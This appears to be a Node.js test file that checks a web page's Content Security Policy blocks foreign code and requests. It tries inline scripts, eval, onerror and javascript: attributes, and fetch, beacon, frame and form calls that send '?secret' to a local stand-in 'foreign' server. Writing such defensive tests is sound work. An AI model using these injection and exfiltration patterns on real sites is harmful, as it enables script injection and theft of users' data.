// What would harm a reader if the page let it run: code, requests and frames that are not the site's own, whatever puts them into the page.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { open } from './support.mjs';

const BLOCKED = /Content Security Policy|asked another site|Refused to|violates|CSP|ERR_BLOCKED/;
let asked = [];
const foreign = createServer((request, response) => {
  asked.push(request.url);
  response.setHeader('Access-Control-Allow-Origin', '*');
  response.end('window.hacked = 1');
});
let elsewhere;
before(async () => {
  await new Promise(done => foreign.listen(0, '127.0.0.1', done));
  elsewhere = `http://localhost:${foreign.address().port}/`;
});
after(() => foreign.close());

/** What each attempt comes to: `done` where nothing held it. */
const ATTEMPTS = {
  'a script in the page': () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = 1' })),
  'a script from elsewhere': at => new Promise(over => {
    const script = Object.assign(document.createElement('script'), { src: `${at}script.js`, onload: over, onerror: over });
    document.body.append(script);
  }),
  'a text run as code': () => later(() => eval('window.hacked = 1')),
  'a function made of a text': () => later(() => new Function('window.hacked = 1')()),
  'a timer with a text': () => new Promise(over => { try { setTimeout('window.hacked = 1', 0); } catch { /* held */ } setTimeout(over, 50); }),
  'an attribute that runs': () => {
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="nothing" onerror="window.hacked = 1"><a id="run" href="javascript:window.hacked = 1">x</a>';
    document.body.append(holder);
    holder.querySelector('#run').click();
    return new Promise(over => setTimeout(over, 100));
  },
  'a request elsewhere': at => fetch(`${at}fetch?secret`).catch(() => 'held'),
  'a beacon elsewhere': at => void navigator.sendBeacon(`${at}beacon?secret`, 'secret'),
  'a socket elsewhere': at => { try { new WebSocket(at.replace('http', 'ws')); } catch { return 'held'; } },
  'a picture from elsewhere': at => new Promise(over => Object.assign(new Image(), { onload: over, onerror: over, src: `${at}picture?secret` })),
  'a style from elsewhere': at => new Promise(over => {
    const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${at}style?secret`, onload: over, onerror: over });
    document.head.append(link);
  }),
  'a frame from elsewhere': at => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `${at}frame?secret` }));
    return new Promise(over => setTimeout(over, 150));
  },
  'an object from elsewhere': at => {
    document.body.append(Object.assign(document.createElement('object'), { data: `${at}object?secret`, type: 'text/html' }));
    return new Promise(over => setTimeout(over, 150));
  },
  'a worker made of a text': () => {
    try {
      new Worker(URL.createObjectURL(new Blob(['self.hacked = 1'])));
    } catch {
      return 'held';
    }
  },
  'a form sent elsewhere': at => {
    const form = Object.assign(document.createElement('form'), { action: `${at}form?secret`, target: '_blank' });
    document.body.append(form);
    form.submit();
    return new Promise(over => setTimeout(over, 150));
  },
  'another base for addresses': at => {
    document.head.append(Object.assign(document.createElement('base'), { href: at }));
    return fetch('data/datapackage.json?secret').catch(() => 'held');
  },
};

for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  test(`${name} comes to nothing`, async () => {
    asked = [];
    const page = await open('?v=method&lang=en', { allow: /./ });
    assert.deepEqual(page.complaints, [], 'the page itself keeps to its policy');
    const held = page.evaluate(() => new Promise(done => document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective), { once: true })));
    // The browser's remote control may run texts; what the page does later may not.
    await page.evaluate(() => { self.later = act => new Promise(over => setTimeout(() => { try { act(); } catch { /* held */ } over(); }, 0)); });
    await page.evaluate(attempt, elsewhere);
    const directive = await Promise.race([held, new Promise(done => setTimeout(done, 3000, 'none'))]);
    assert.notEqual(directive, 'none', 'the policy has said so');
    assert.deepEqual([await page.evaluate(() => window.hacked), asked], [undefined, []]);
    assert.ok(page.complaints.every(complaint => BLOCKED.test(complaint) || /nothing/.test(complaint)), page.complaints.join('\n'));
  });
}
